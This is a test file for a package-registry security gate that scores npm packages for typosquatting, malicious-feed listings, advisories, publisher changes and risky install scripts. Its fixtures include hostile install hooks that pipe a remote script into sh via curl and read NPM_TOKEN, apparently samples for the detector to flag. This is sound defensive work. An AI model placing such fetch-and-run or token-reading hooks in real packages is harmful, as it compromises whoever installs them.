import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { newId } from '../../core/index.ts';
import { openStorage, type Storage } from '../../storage/index.ts';
import type { FactCollector } from '../../gate/types.ts';
import type { FirstSeenStore, Json } from '../../storage/ports/index.ts';
import { createLookalikeIndex } from '../lookalike/index.ts';
import { importOsvFeed } from '../feeds/index.ts';
import { createSignalCollectors, fixedLookalikeIndexes, installBehaviourCollector, lazyLookalikeIndexes, nameCollector, warmLookalikeIndexes, HISTORY_FACTS, type CollectorCandidate, type FactsDoc, type SignalCollector } from './index.ts';
import { DEFAULT_INSTALL_SCRIPT_LIMITS } from '../install-scripts/index.ts';
import { cpuMsOf } from '../../../test/support/cpu-time.ts';

const FEED = join(import.meta.dirname, '..', 'feeds', 'testdata', 'osv');
const DAY = 86_400_000;

function candidate(name: string, version: string, facts: FactsDoc = {}, ecosystem: 'npm' | 'pypi' | 'oci' = 'npm'): CollectorCandidate & { subject: { repo: string; purl: never } } {
  return { subject: { repo: 'npm', ecosystem, name, version, purl: `pkg:${ecosystem}/${name}@${version}` as never }, facts };
}

type Got = Record<string, Record<string, Json>>;

async function collectAll(collectors: readonly SignalCollector[], phase: 'metadata' | 'artifact', candidates: readonly CollectorCandidate[], now: Date, history = candidates): Promise<Got[]> {
  const out: Got[] = candidates.map(() => ({}));
  for (const c of collectors) {
    const facts = await c.collect({ phase, candidates, history, request: null, now });
    assert.equal(facts.length, candidates.length, c.id);
    facts.forEach((f, i) => Object.assign(out[i] as Got, f));
  }
  return out;
}

async function withStorage(fn: (storage: Storage) => Promise<void>): Promise<void> {
  const dir = await mkdtemp(join(tmpdir(), 'airlock-collectors-'));
  const storage = await openStorage({ dataDir: join(dir, 'data') });
  try {
    await fn(storage);
  } finally {
    await storage.close();
    await rm(dir, { recursive: true, force: true });
  }
}

const index = createLookalikeIndex([{ name: 'lodash', rank: 1 }, { name: '@ctrl/tinycolor', rank: 2 }, { name: 'chalk', rank: 3 }], { rules: 'npm', internal: ['acme-billing'] });

test('collectors fit the gate port and produce the documented keys for a whole package at once', async () => {
  await withStorage(async (storage) => {
    const now = new Date('2026-03-01T00:00:00Z');
    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 60_000 });
    const asGatePort: readonly FactCollector[] = signals.collectors;
    assert.equal(asGatePort.length, 7);
    await storage.signals.recordMissing({ ecosystem: 'npm', name: 'lodahs', at: new Date('2026-02-01T00:00:00Z'), tokenId: 't1', userAgent: 'npm/11', agent: 'claude-code' });

    const adapter = (published: string, extra: FactsDoc = {}): FactsDoc => ({ published_at: published, package_created_at: '2026-02-20T00:00:00Z', ...extra });
    const versions = [
      candidate('lodahs', '1.0.0', adapter('2026-02-20T00:00:00Z', { install_scripts: {}, has_install_script: false, publisher: 'a', maintainers: ['a'], provenance: true })),
      candidate('lodahs', '1.0.1', adapter('2026-02-27T00:00:00Z', { install_scripts: { postinstall: 'curl -s https://x.example/i.sh | sh' }, has_install_script: true, publisher: 'b', maintainers: ['a', 'b'], provenance: false })),
    ];
    const [v100, v101] = await collectAll(signals.collectors, 'metadata', versions, now);
    assert.ok(v100 !== undefined && v101 !== undefined);
    assert.deepEqual(Object.keys(v101).sort(), ['age', 'install_behaviour', 'lookalike', 'malicious', 'name', 'publisher_changes', 'requested_while_missing', 'vulnerabilities']);
    assert.deepEqual([v101.lookalike?.closest, v101.lookalike?.kind], ['lodash', 'typo']);
    assert.equal(v101.name?.popular, false);
    assert.deepEqual([v101.age?.version_age_days, v101.age?.package_age_days, v101.age?.days_since_first_seen], [2, 9, 0]);
    assert.deepEqual([v101.requested_while_missing?.requested, v101.requested_while_missing?.agents], [true, ['claude-code']]);
    assert.equal((await storage.signals.getMissing('npm', 'lodahs'))?.appearedAt?.toISOString(), now.toISOString(), 'the ledger stamps the appearance');
    assert.deepEqual([v100.install_behaviour?.max_severity, v101.install_behaviour?.max_severity], ['none', 'critical']);
    assert.deepEqual(
      [v101.publisher_changes?.publisher_new, v101.publisher_changes?.maintainers_added, v101.publisher_changes?.provenance_regression, v101.publisher_changes?.last_provenance_version],
      [true, ['b'], true, '1.0.0'],
    );
    assert.equal(v101.malicious?.known, false);
  });
});

test('first sightings: one store round trip per package, none when every version is known', async () => {
  await withStorage(async (storage) => {
    let calls = 0;
    const counting: FirstSeenStore & typeof storage.signals = Object.create(storage.signals) as typeof storage.signals;
    counting.markSeen = async (...args) => {
      calls++;
      return storage.signals.markSeen(...args);
    };
    const signals = createSignalCollectors({ store: counting, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 30 * DAY });
    const many = Array.from({ length: 2000 }, (_, i) => candidate('big-pkg', `1.0.${i}`, { published_at: '2025-01-01T00:00:00Z' }));
    let now = new Date('2026-03-01T00:00:00Z');
    await collectAll(signals.collectors, 'metadata', many, now);
    assert.equal(calls, 1, 'one upsert for 2,000 versions');
    now = new Date('2026-03-05T00:00:00Z');
    const again = await collectAll(signals.collectors, 'metadata', many, now);
    assert.equal(calls, 1, 'nothing new: no store write');
    assert.equal(again[0]?.age?.days_since_first_seen, 4, 'the first sighting is kept');
    await collectAll(signals.collectors, 'metadata', [...many, candidate('big-pkg', '2.0.0')], now);
    assert.equal(calls, 2);
    const seen = await storage.signals.firstSeen('npm', 'big-pkg');
    assert.equal(seen.versions.size, 2001);
    assert.equal(seen.versions.get('2.0.0')?.toISOString(), now.toISOString());
  });
});

test('first sightings in the artifact phase: only the judged version is read, and what is remembered stays right', async () => {
  await withStorage(async (storage) => {
    const many = Array.from({ length: 2000 }, (_, i) => candidate('big-pkg', `1.0.${i}`, { published_at: '2025-01-01T00:00:00Z' }));
    await storage.signals.markSeen('npm', 'big-pkg', many.map((c) => c.subject.version), new Date('2026-03-01T00:00:00Z'));
    const asked: (readonly string[] | undefined)[] = [];
    const watching: FirstSeenStore & typeof storage.signals = Object.create(storage.signals) as typeof storage.signals;
    watching.firstSeen = async (ecosystem, name, versions) => {
      asked.push(versions);
      return storage.signals.firstSeen(ecosystem, name, versions);
    };
    // A fresh process: nothing about the package in memory.
    const signals = createSignalCollectors({ store: watching, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 30 * DAY });
    const judged = many[7] as CollectorCandidate;
    const [artifact] = await collectAll(signals.collectors, 'artifact', [judged], new Date('2026-03-11T00:00:00Z'), many);
    assert.deepEqual(asked, [['1.0.7']], 'one version read, not 2,000');
    assert.equal(artifact?.age?.days_since_first_seen, 10);
    // The metadata phase then sees every version with its own first sighting, none moved later.
    const all = await collectAll(signals.collectors, 'metadata', many, new Date('2026-03-12T00:00:00Z'));
    assert.ok(all.every((f) => f.age?.days_since_first_seen === 11));
    assert.equal((await storage.signals.firstSeen('npm', 'big-pkg')).versions.get('1.0.1999')?.toISOString(), '2026-03-01T00:00:00.000Z');
  });
});

test('malicious facts: exact versions, the history around them, and a feed change seen after feedChanged()', async () => {
  await withStorage(async (storage) => {
    const now = new Date('2026-03-01T00:00:00Z');
    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 3_600_000 });
    const tiny = ['4.0.0', '4.1.0', '4.1.1', '4.1.2', '4.1.3'].map((v, i) => candidate('@ctrl/tinycolor', v, { published_at: new Date(Date.parse('2025-09-01T00:00:00Z') + i * DAY).toISOString() }));
    const before = await collectAll(signals.collectors, 'metadata', tiny, now);
    assert.equal(before[2]?.malicious?.known, false);

    await importOsvFeed(storage.signals, FEED, { source: 'ossf-malicious-packages', importedBy: 't', now, newId: () => newId() });
    const stale = await collectAll(signals.collectors, 'metadata', tiny, now);
    assert.equal(stale[2]?.malicious?.known, false, 'cached until the feed change is announced');
    signals.feedChanged();
    const got = await collectAll(signals.collectors, 'metadata', tiny, now);
    const m = got.map((g) => g.malicious as Record<string, Json>);
    assert.deepEqual(m.map((x) => x.version_listed), [false, false, true, true, false]);
    assert.deepEqual(m.map((x) => x.all_versions), [true, true, true, true, true]);
    assert.deepEqual(m[0]?.listed_versions, ['4.1.1', '4.1.2']);
    assert.deepEqual(m.map((x) => x.predates_listed), [true, true, false, false, false]);
    assert.deepEqual(m.map((x) => x.previous_version_listed), [false, false, false, false, true], '4.1.3 follows a listed release');
    assert.equal(m[4]?.previous_version, '4.1.2');

    // The registry removed the malicious releases: the fix still follows them (by version order).
    const removed = [tiny[0], tiny[1], tiny[4]] as CollectorCandidate[];
    const r = (await collectAll(signals.collectors, 'metadata', removed, now)).map((g) => g.malicious as Record<string, Json>);
    assert.deepEqual(r.map((x) => x.previous_version_listed), [false, false, true]);
    assert.deepEqual(r.map((x) => x.predates_listed), [true, true, false]);
    assert.deepEqual(r[0]?.listed_versions, [], 'a range names no versions by itself');
  });
});

test('vulnerability facts: the advisories of a version from an imported feed, one store read per package, a change seen after feedChanged()', async () => {
  await withStorage(async (storage) => {
    const now = new Date('2026-03-01T00:00:00Z');
    let reads = 0;
    const counting = Object.create(storage.signals) as typeof storage.signals;
    counting.advisoriesFor = async (...args) => {
      reads++;
      return storage.signals.advisoriesFor(...args);
    };
    const signals = createSignalCollectors({ store: counting, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 3_600_000 });
    const versions = ['0.2.3', '1.2.5', '1.2.6'].map((v, i) => candidate('minimist', v, { published_at: `2022-01-0${i + 1}T00:00:00Z` }));
    const dir = await mkdtemp(join(tmpdir(), 'airlock-vuln-feed-'));
    try {
      await writeFile(
        join(dir, 'GHSA-xvch-5gv4-984h.json'),
        JSON.stringify({
          id: 'GHSA-xvch-5gv4-984h',
          modified: '2023-02-27T14:47:14Z',
          aliases: ['CVE-2021-44906'],
          severity: [{ type: 'CVSS_V3', score: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H' }],
          affected: [
            { package: { ecosystem: 'npm', name: 'minimist' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '1.0.0' }, { fixed: '1.2.6' }] }] },
            { package: { ecosystem: 'npm', name: 'minimist' }, ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '0.2.4' }] }] },
          ],
          database_specific: { severity: 'CRITICAL' },
        }),
      );
      const before = await collectAll(signals.collectors, 'metadata', versions, now);
      assert.deepEqual(before.map((f) => (f.vulnerabilities as Record<string, Json>).count), [0, 0, 0]);
      await importOsvFeed(storage.signals, dir, { source: 'osv', importedBy: 't', now, newId: () => newId() });
      signals.feedChanged();
      const got = (await collectAll(signals.collectors, 'metadata', versions, now)).map((f) => f.vulnerabilities as Record<string, Json>);
      assert.deepEqual(got.map((f) => [f.count, f.max_severity]), [[1, 'critical'], [1, 'critical'], [0, null]]);
      assert.deepEqual((got[1]?.records as Record<string, Json>[]).map((r) => [r.id, r.score, r.fixed]), [['GHSA-xvch-5gv4-984h', 9.8, '1.2.6']]);
      assert.deepEqual(got.map((f) => (f as Record<string, Json>).fix_available), [true, true, false]);
      // 1.2.6 fixes the advisory of the version published before it: the cooldown's fast lane reads this.
      assert.deepEqual(got.map((f) => [f.previous_version, f.fixes]), [
        [null, []],
        ['0.2.3', []],
        ['1.2.5', [{ id: 'GHSA-xvch-5gv4-984h', severity: 'critical' }]],
      ]);
      const malicious = (await collectAll(signals.collectors, 'metadata', versions, now)).map((f) => (f.malicious as Record<string, Json>).known);
      assert.deepEqual(malicious, [false, false, false], 'a vulnerability does not make a package malicious');
      assert.equal(reads, 2, 'one read per package before the import and one after: shared by the malicious and vulnerability collectors');
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

test('history-aware collectors read only HISTORY_FACTS from the history', async () => {
  await withStorage(async (storage) => {
    const now = new Date('2026-03-01T00:00:00Z');
    await importOsvFeed(storage.signals, FEED, { source: 'ossf-malicious-packages', importedBy: 't', now, newId: () => newId() });
    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 3_600_000 });
    const people = [['a'], ['a'], ['a', 'b'], ['b'], ['b']];
    const full = ['4.0.0', '4.1.0', '4.1.1', '4.1.2', '4.1.3'].map((v, i) =>
      candidate('@ctrl/tinycolor', v, {
        published_at: new Date(Date.parse('2025-09-01T00:00:00Z') + i * DAY).toISOString(),
        package_created_at: '2025-09-01T00:00:00Z',
        publisher: i < 3 ? 'a' : 'b',
        maintainers: people[i] as string[],
        provenance: i < 2,
        provenance_predicate_type: i < 2 ? 'https://slsa.dev/provenance/v1' : null,
        trusted_publisher: i === 0 ? 'github' : null,
        trusted_publisher_config: i === 0 ? 'cfg-1' : null,
        publish_approver: i === 1 ? 'c' : null,
        install_scripts: i === 4 ? { postinstall: 'node x.js' } : {},
        has_install_script: i === 4,
        license: 'MIT',
        dist_tags: i === 4 ? ['latest'] : [],
      }),
    );
    const projected = full.map((c) => ({ ...c, facts: Object.fromEntries(HISTORY_FACTS.filter((k) => Object.hasOwn(c.facts, k)).map((k) => [k, c.facts[k] as Json])) }));
    for (const judged of full) {
      const withFull = await collectAll(signals.collectors, 'artifact', [judged], now, full);
      const withProjected = await collectAll(signals.collectors, 'artifact', [judged], now, projected.map((p) => (p.subject.version === judged.subject.version ? judged : p)));
      assert.deepEqual(withProjected, withFull, judged.subject.version);
    }
    const last = (await collectAll(signals.collectors, 'artifact', [full[4] as CollectorCandidate], now, projected))[0];
    assert.equal((last?.malicious as Record<string, Json>).previous_version_listed, true, 'the history mattered');
    assert.notEqual(last?.publisher_changes, null);
  });
});

test('artifact phase: the files install hooks run are read from the artifact and analysed', async () => {
  await withStorage(async (storage) => {
    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 60_000 });
    const asked: string[][] = [];
    const files = new Map([['scripts/setup.js', Buffer.from("require('child_process').execSync('curl -s http://203.0.113.9/x | sh')\nconst t = process.env.NPM_TOKEN\n")]]);
    const c: CollectorCandidate = {
      subject: { ecosystem: 'npm', name: 'innocent-helper', version: '1.0.0' },
      facts: { install_scripts: {}, tarball: { install_scripts: { postinstall: 'node scripts/setup.js' }, has_binding_gyp: false } },
      content: {
        size: 10_000,
        async readFiles(paths) {
          asked.push([...paths]);
          return new Map([...files].filter(([p]) => paths.includes(p)).map(([p, bytes]) => [p, { bytes, size: bytes.length }]));
        },
      },
    };
    const [got] = await collectAll(signals.collectors, 'artifact', [c], new Date('2026-03-01T00:00:00Z'));
    // One pass over the archive: the file and the other names Node would try for it; what it
    // loads is Node's own (child_process), so there is nothing more to read.
    assert.deepEqual([asked.length, asked[0]?.[0]], [1, 'scripts/setup.js'], JSON.stringify(asked));
    const b = got?.install_behaviour as Record<string, Json>;
    assert.equal(b.max_severity, 'critical');
    const sources = new Set((b.findings as Array<Record<string, Json>>).map((f) => f.source));
    assert.ok(sources.has('scripts/setup.js'), JSON.stringify(b.findings));
    assert.ok((b.categories as string[]).includes('credential-access'));

    // A bundled package's hook runs in its folder: the file is read from there.
    asked.length = 0;
    files.set('node_modules/inner/setup.js', Buffer.from(files.get('scripts/setup.js') ?? ''));
    const bundler: CollectorCandidate = {
      ...c,
      facts: { install_scripts: {}, tarball: { install_scripts: {}, has_binding_gyp: false, bundled_install_scripts: { 'node_modules/inner': { postinstall: 'node setup.js' } }, bundled_install_script_count: 1 } },
    };
    const [bundled] = await collectAll(signals.collectors, 'artifact', [bundler], new Date('2026-03-01T00:00:00Z'));
    assert.deepEqual([asked.length, asked[0]?.[0]], [1, 'node_modules/inner/setup.js'], JSON.stringify(asked));
    const bb = bundled?.install_behaviour as Record<string, Json>;
    assert.deepEqual([(bb.hooks as Array<Record<string, Json>>).map((h) => h.name), bb.max_severity], [['postinstall in node_modules/inner'], 'critical']);

    const native = candidate('native-thing', '1.0.0', { install_scripts: {}, tarball: { install_scripts: { install: 'node-gyp rebuild' }, has_binding_gyp: true } });
    const [n] = await collectAll(signals.collectors, 'artifact', [native], new Date('2026-03-01T00:00:00Z'));
    assert.deepEqual([n?.install_behaviour?.present, n?.install_behaviour?.native_build, n?.install_behaviour?.max_severity], [true, true, 'none']);
  });
});

test('dependency confusion, popular names and other ecosystems', async () => {
  await withStorage(async (storage) => {
    const signals = createSignalCollectors({ store: storage.signals, indexes: fixedLookalikeIndexes({ npm: index }) }, { factsTtlMs: 60_000 });
    const now = new Date('2026-03-01T00:00:00Z');
    const [conf] = await collectAll(signals.collectors, 'metadata', [candidate('acme-billing', '1.0.0')], now);
    assert.deepEqual([conf?.lookalike?.kind, conf?.lookalike?.dependency_confusion, conf?.name?.internal], ['dependency-confusion', true, true]);
    const [chalk] = await collectAll(signals.collectors, 'metadata', [candidate('chalk', '5.6.0')], now);
    assert.deepEqual([chalk?.name?.popular, chalk?.lookalike?.closest], [true, null]);
    const [other] = await collectAll(signals.collectors, 'metadata', [candidate('library/nginx', 'latest', {}, 'oci')], now);
    assert.deepEqual([other?.lookalike?.closest, other?.malicious?.known, other?.publisher_changes], [null, false, null]);
  });
});

test('warming builds each named ecosystem once, for the gate to use; a failed build is logged and left to the first use', async () => {
  const asked: string[] = [];
  const warned: { obj: object; msg: string }[] = [];
  const log = { warn: (obj: object, msg: string) => void warned.push({ obj, msg }) };
  await warmLookalikeIndexes({ get: async (e) => (asked.push(e), index) }, ['npm', 'npm'], log);
  assert.deepEqual(asked, ['npm']);

  // The bundled lists: what warming built is what later lookups get.
  const lazy = lazyLookalikeIndexes();
  let built: unknown = null;
  await warmLookalikeIndexes({ get: async (e) => (built = await lazy.get(e)) }, ['npm'], log);
  assert.ok(built !== null);
  assert.equal(await lazy.get('npm'), built);
  assert.equal(warned.length, 0);

  await warmLookalikeIndexes({ get: () => Promise.reject(new Error('popular list unreadable')) }, ['npm'], log);
  assert.equal(warned.length, 1);
  assert.match(warned[0]?.msg ?? '', /built on first use/);
  assert.equal((warned[0]?.obj as { ecosystem?: string }).ecosystem, 'npm');
});

test('artifact phase: the hook files of at most two artifacts are read at once (each read may hold 16 MiB)', async () => {
  const collector = installBehaviourCollector();
  let reading = 0;
  let most = 0;
  const release: Array<() => void> = [];
  const judged = (i: number): CollectorCandidate => ({
    subject: { ecosystem: 'npm', name: `hooked-${i}`, version: '1.0.0' },
    facts: { install_scripts: {}, tarball: { install_scripts: { postinstall: 'node setup.js' }, has_binding_gyp: false } },
    content: {
      size: 1000,
      async readFiles() {
        most = Math.max(most, ++reading);
        await new Promise<void>((resolve) => release.push(resolve));
        reading--;
        return new Map([['setup.js', { bytes: Buffer.from('// nothing'), size: 10 }]]);
      },
    },
  });
  // One package's versions are judged in one call; separate artifacts arrive in separate calls.
  const calls = [0, 1, 2, 3, 4].map((i) => collector.collect({ phase: 'artifact', candidates: [judged(i)], history: [], request: null, now: new Date() }));
  while (release.length < 2) await new Promise((r) => setImmediate(r));
  for (let done = 0; done < 5; done++) {
    while (release.length === 0) await new Promise((r) => setImmediate(r));
    (release.shift() as () => void)();
  }
  const all = await Promise.all(calls);
  assert.equal(most, 2);
  assert.deepEqual(all.map((f) => (f[0]?.install_behaviour as Record<string, Json>).complete), [true, true, true, true, true]);
});

test('metadata phase: the versions of one package share one budget for the behaviour rules, so a packument of versions each with its own script written against them costs one budget, and the versions left are reported not analysed', async () => {
  const collector = installBehaviourCollector({ ...DEFAULT_INSTALL_SCRIPT_LIMITS, maxCpuMs: 300 });
  // Each `curl` makes a rule scan 300 characters for a `|`: one such 1 MiB script takes about 0.75 s.
  const slow = 'curl '.repeat((1 << 20) / 5);
  const versions = [0, 1, 2, 3, 4, 5].map((v) => candidate('pad', `1.0.${v}`, { install_scripts: { postinstall: `${slow}# ${v}` }, has_install_script: true }));
  let got: readonly FactsDoc[] = [];
  const ms = await cpuMsOf(async () => {
    got = await collector.collect({ phase: 'metadata', candidates: versions, history: versions, request: null, now: new Date() });
  });
  assert.ok(ms < 1500, `${ms} ms of CPU for six versions sharing a budget of 300`);
  const facts = got.map((f) => f['install_behaviour'] as Record<string, Json>);
  assert.deepEqual(facts.map((f) => [f['complete'], f['over_budget']]), versions.map(() => [false, true]));
  assert.deepEqual(facts.slice(1).map((f) => f['skipped_hooks']), [1, 1, 1, 1, 1]);
  // The next pass (another package, or this one judged again) has a budget of its own.
  const [next] = await collector.collect({ phase: 'metadata', candidates: [candidate('plain', '1.0.0', { install_scripts: { postinstall: 'node x.js' }, has_install_script: true })], history: [], request: null, now: new Date() });
  assert.equal((next?.['install_behaviour'] as Record<string, Json>)['complete'], true);
});

test('names published to a hosted repository become internal names once the index is refreshed: the same name upstream is then dependency confusion', async () => {
  let published: string[] = [];
  const indexes = lazyLookalikeIndexes({ published: (ecosystem) => (ecosystem === 'npm' ? published : []) });
  const collector = nameCollector({ indexes });
  const facts = async (): Promise<Got> => (await collectAll([collector], 'metadata', [candidate('acme-billing-core', '1.0.0')], new Date()))[0] as Got;
  assert.equal((await facts())['lookalike']?.['dependency_confusion'], false);
  published = ['acme-billing-core'];
  assert.equal((await facts())['lookalike']?.['dependency_confusion'], false, 'the index in use is kept until it is refreshed');
  indexes.refresh('npm');
  const after = await facts();
  assert.equal(after['lookalike']?.['dependency_confusion'], true);
  assert.equal(after['name']?.['internal'], true);
});
